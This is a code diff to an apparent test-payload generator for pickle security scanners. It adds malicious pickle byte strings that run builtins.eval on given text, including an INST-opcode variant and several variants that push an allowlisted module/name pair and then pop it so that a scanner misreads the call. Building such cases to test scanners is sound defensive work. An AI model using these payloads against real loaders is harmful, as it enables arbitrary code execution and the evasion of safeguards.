@@ -52,7 +52,10 @@ def payloads(
         "profiled": _call(_name("cProfile", "run"), text),
     }
     found |= _by_opcodes(text) | _by_other_modules(text, shell)
-    for module, name in _harmless(allowed):
+    harmless = _harmless(allowed)
+    for pair in harmless[:2]:
+        found |= {f"{'.'.join(pair)}, {how}": name + text + b"\x85R" for how, name in _behind(*pair).items()}
+    for module, name in harmless:
         found[f"from {module}.{name}"] = _by_object(module, name, text)
     if helper:
         found["runpy.run_module"] = _call(_name("runpy", "run_module"), _text(helper))
@@ -82,7 +85,18 @@ def _by_opcodes(text: bytes) -> dict[str, bytes]:
         found[f"{named} and NEWOBJ"] = made + mapped + lazily + b"\x81\x85\x81"
         found[f"{named} and NEWOBJ_EX"] = made + mapped + lazily + b"}\x92\x85}\x92"
         found[f"{named} and a class"] = _call(made, _call(mapped, evaluate, b"(" + text + b"t"))
-    return found
+    return found | {"INST": b"(" + text + b"ibuiltins\neval\n"}
+
+
+def _behind(module: str, name: str) -> dict[str, bytes]:
+    """`eval` for those who take the last two strings for its name: a harmless pair stands there, and is taken away."""
+    evil, first, last = _text("builtins") + _text("eval"), _text(module), _text(name)
+    return {
+        "popped one by one": evil + first + b"0" + last + b"0\x93",
+        "popped together": evil + first + last + b"00\x93",
+        "popped to a mark": evil + b"(" + first + last + b"1\x93",
+        "popped as a pair": evil + first + last + b"\x860\x93",
+    }
 
 
 def _by_other_modules(text: bytes, shell: str) -> dict[str, bytes]:
